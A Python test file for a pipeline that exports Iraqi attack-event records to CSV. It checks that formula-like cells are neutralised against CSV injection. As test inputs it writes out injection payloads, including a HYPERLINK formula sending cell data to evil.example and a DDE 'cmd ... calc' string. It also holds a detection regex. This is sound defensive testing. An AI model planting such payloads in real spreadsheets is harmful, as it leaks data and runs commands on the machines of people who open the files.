"""events.csv is safe to open in a spreadsheet and reads back with default limits.

Its text comes from articles and file names: a cell that starts like a formula is
neutralised (OWASP's CSV-injection rule), long cells are cut with a marker, and
events.jsonl keeps every value exactly.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil

import pytest

from kg.pipeline.extract.records import CasualtyReport, DateInfo, EntityRef, Evidence, RoleFiller
from kg.pipeline.merge import Event
from kg.pipeline.tables import (
    CSV_CELL_MAX,
    CSV_COLUMNS,
    csv_cell,
    csv_text,
    events_csv,
    events_jsonl,
)

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
"""What a spreadsheet may run as a formula when a cell starts with it."""

# a cell is dangerous when, after white space and invisible marks, it starts with one
# of these (a tab or line break at the very start counts on its own)
_DANGER = re.compile(
    r"[\t\r\n]|[\s\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]"
)

TEXT_COLUMNS = [c for c in CSV_COLUMNS if c not in ("killed", "wounded")]


def _event(
    n: int,
    *,
    label_ar: str = "كتائب حزب الله",
    label_en: str | None = "Kataib Hezbollah",
    target_ar: str = "معسكر التاجي",
    file: str = "a.txt",
    sentence: str = "سقطت صواريخ على معسكر التاجي.",
    killed: int | None = 2,
) -> Event:
    ev = Evidence(file, "a", 0, len(sentence), sentence, "test")
    attacker = EntityRef(
        f"https://w3id.org/kg-iraq/id/entity/x{n}", "ArmedGroup", label_ar, label_en
    )
    target = EntityRef(f"https://w3id.org/kg-iraq/id/entity/t{n}", "MilitaryBase", target_ar, None)
    return Event(
        iri=f"https://w3id.org/kg-iraq/id/event/e{n:03d}",
        category="attack",
        type="RocketAttack",
        status="done",
        date=DateInfo("2020-03-11", "day", "2020-03-11", "2020-03-11", "الأربعاء"),
        roles=(RoleFiller("attacker", attacker, ev), RoleFiller("target", target, ev)),
        responsibility=(),
        casualties=(CasualtyReport(killed, None, ev),) if killed is not None else (),
        sources=(ev,),
        retaliation_for=(),
    )


def _rows(data: bytes) -> list[dict]:
    """events.csv read back as the csv module reads it, with its default limits."""
    assert csv.field_size_limit() == 131072
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _items(cell: str) -> list[str]:
    return cell.split(" | ")


# --- the rule itself -----------------------------------------------------------------


@pytest.mark.parametrize("char", DANGEROUS)
@pytest.mark.parametrize(
    "rest",
    ['HYPERLINK("http://evil.example/?"&A1,"انقر هنا")', "1+1", "SUM(A1:A9)", "كتائب =1+1"],
)
def test_a_value_that_starts_like_a_formula_gets_a_quote(char, rest):
    value = char + rest
    assert csv_text(value) == "'" + value
    if not char.isspace():  # a tab or line break counts only as the very first character
        assert csv_text(" " + value) == "' " + value  # after leading spaces too
        assert csv_text("\u200f" + value) == "'\u200f" + value  # after a bidi mark


@pytest.mark.parametrize(
    "value",
    [
        "كتائب حزب الله",
        "Camp Taji",
        "2020-03-11",
        "https://w3id.org/kg-iraq/id/event/e1",
        "",
        "a=b",
    ],
)
def test_ordinary_values_are_left_alone(value):
    assert csv_text(value) == value == csv_cell(value)


def test_the_rule_can_be_undone_exactly():
    for value in ("=1+1", "'=1+1", "'quoted'", "''", " -x", "نص عادي", "'"):
        escaped = csv_text(value)
        assert not _DANGER.match(escaped)
        restored = escaped[1:] if escaped.startswith("'") else escaped
        assert restored == value


# --- rows whose text comes from hostile articles and file names ----------------------


def _hostile_events() -> list[Event]:
    events = []
    n = 0
    for char in DANGEROUS:
        for arabic, latin in (
            (f'{char}HYPERLINK("http://evil.example","كتائب")', f"{char}cmd|' /C calc'!A0"),
            (f"{char}فصيل مجهول", f"{char}1+2"),
            (f"  {char}سرايا", f" {char}SUM(1;2)"),
        ):
            events.append(
                _event(
                    n,
                    label_ar=arabic,
                    label_en=None,
                    target_ar=arabic,
                    file=f"{latin}.txt",
                    sentence=f"{char}{arabic} أطلقت صواريخ على القاعدة; =2+3,{latin}",
                )
            )
            n += 1
            events.append(_event(n, label_en=latin, target_ar=latin, file=f"{arabic}.txt"))
            n += 1
    return events


def test_no_cell_and_no_list_item_starts_like_a_formula():
    events = _hostile_events()
    rows = _rows(events_csv(events))
    assert len(rows) == len(events)
    for row in rows:
        assert list(row) == CSV_COLUMNS
        for column in TEXT_COLUMNS:
            cell = row[column]
            assert not _DANGER.match(cell), (column, cell)
            for item in _items(cell):
                assert not _DANGER.match(item), (column, item)


def test_hostile_values_arrive_with_one_quote_and_nothing_else_changed():
    events = _hostile_events()
    rows = {r["id"]: r for r in _rows(events_csv(events))}
    for ev in events:
        row = rows[ev.iri]
        attacker = ev.fillers("attacker")[0]
        label = attacker.label_en or attacker.label_ar
        assert row["attackers"] == ("'" + label if _DANGER.match(label) else label)
        src = ev.sources[0]
        for column, value in (("articles", src.article), ("sentences", src.sentence)):
            assert row[column] == ("'" + value if _DANGER.match(value) else value)
        assert row["date"] == "2020-03-11" and row["killed"] == "2"


def test_text_cells_are_quoted_and_numbers_are_not():
    data = events_csv([_event(1, killed=3, label_en="Kataib; =1+1, Hezbollah")]).decode()
    header, line = data.splitlines()
    assert header.startswith('"id","category",')
    assert ',3,"",' in line  # killed is a number, wounded unknown
    assert '"Kataib; =1+1, Hezbollah"' in line  # a ";" or "," cannot start a cell


def test_jsonl_keeps_the_exact_values():
    events = _hostile_events()
    objects = [json.loads(line) for line in events_jsonl(events).decode().splitlines()]
    by_id = {o["id"]: o for o in objects}
    for ev in events:
        o = by_id[ev.iri]
        assert o["attackers"][0]["label_ar"] == ev.fillers("attacker")[0].label_ar
        assert o["attackers"][0]["label_en"] == ev.fillers("attacker")[0].label_en
        assert o["sources"][0]["article"] == ev.sources[0].article
        assert o["sources"][0]["sentence"] == ev.sources[0].sentence


# --- long cells -------------------------------------------------------------------------


def test_a_huge_evidence_sentence_is_cut_in_the_csv_only():
    sentence = "=" + "أطلقت الفصائل صواريخ كاتيوشا على معسكر التاجي " * 12_000  # ~550,000 chars
    assert len(sentence) > 4 * csv.field_size_limit()
    events = [_event(1, sentence=sentence), _event(2)]
    data = events_csv(events)
    rows = _rows(data)  # default field_size_limit: a cell over 131,072 would raise here
    assert [r["id"] for r in rows] == sorted(e.iri for e in events)
    cell = rows[0]["sentences"]
    cut = len(sentence) + 1 - CSV_CELL_MAX  # +1: the leading quote
    assert (
        cell == "'" + sentence[: CSV_CELL_MAX - 1] + f"…[cut: {cut} characters; see events.jsonl]"
    )
    assert len(cell) < 32_767  # fits an Excel cell
    assert rows[1]["sentences"] == "سقطت صواريخ على معسكر التاجي."
    full = json.loads(events_jsonl(events).decode().splitlines()[0])
    assert full["sources"][0]["sentence"] == sentence


def test_every_cell_is_capped():
    long_label = "ب" * 200_000
    ev = _event(1, label_ar=long_label, label_en=None, file="f" * 150_000 + ".txt")
    (row,) = _rows(events_csv([ev]))
    for column in TEXT_COLUMNS:
        assert len(row[column]) <= CSV_CELL_MAX + 60, column
    assert "…[cut: 168000 characters; see events.jsonl]" in row["attackers"]


def test_pandas_reads_it_with_default_settings():
    pd = pytest.importorskip("pandas")
    sentence = "-" + "ضربة جوية أمريكية، " * 40_000
    events = [*(_hostile_events()[:6]), _event(99, sentence=sentence, killed=4)]
    frame = pd.read_csv(io.BytesIO(events_csv(events)))
    assert list(frame.columns) == CSV_COLUMNS
    assert len(frame) == len(events)
    assert frame["killed"].tolist() == [2] * 6 + [4]
    assert all(len(s) <= CSV_CELL_MAX + 60 for s in frame["sentences"])
    assert not any(_DANGER.match(str(v)) for c in TEXT_COLUMNS for v in frame[c].dropna())


# --- the real build ------------------------------------------------------------------


def test_seed_build_csv_agrees_with_jsonl(seed_build):
    rows = _rows((seed_build.out / "events.csv").read_bytes())
    objects = [
        json.loads(x) for x in (seed_build.out / "events.jsonl").read_text("utf-8").splitlines()
    ]
    assert rows and len(rows) == len(objects)
    for row, o in zip(rows, objects, strict=True):
        assert row["id"] == o["id"] and row["date"] == (o["date"] or "")
        assert row["killed"] == ("" if o["killed"] is None else str(o["killed"]))
        assert row["sentences"] == " | ".join(s["sentence"] for s in o["sources"])


def test_file_names_that_start_like_formulas(tmp_path, seeds_dir):
    """A corpus whose article files are named like formulas: the CSV quotes them."""
    from kg.pipeline.build import build

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    seed = sorted(seeds_dir.glob("*.txt"))[0]
    names = ["=HYPERLINK(1).txt", "@SUM(1).txt"]
    for name in names:
        shutil.copy(seed, corpus / name)
    build(corpus, tmp_path / "out", cache=False)
    rows = _rows((tmp_path / "out" / "events.csv").read_bytes())
    articles = [item for r in rows for item in _items(r["articles"])]
    assert articles and set(articles) <= {"'" + n for n in names}
    jsonl = (tmp_path / "out" / "events.jsonl").read_text("utf-8")
    assert '"article": "=HYPERLINK(1).txt"' in jsonl
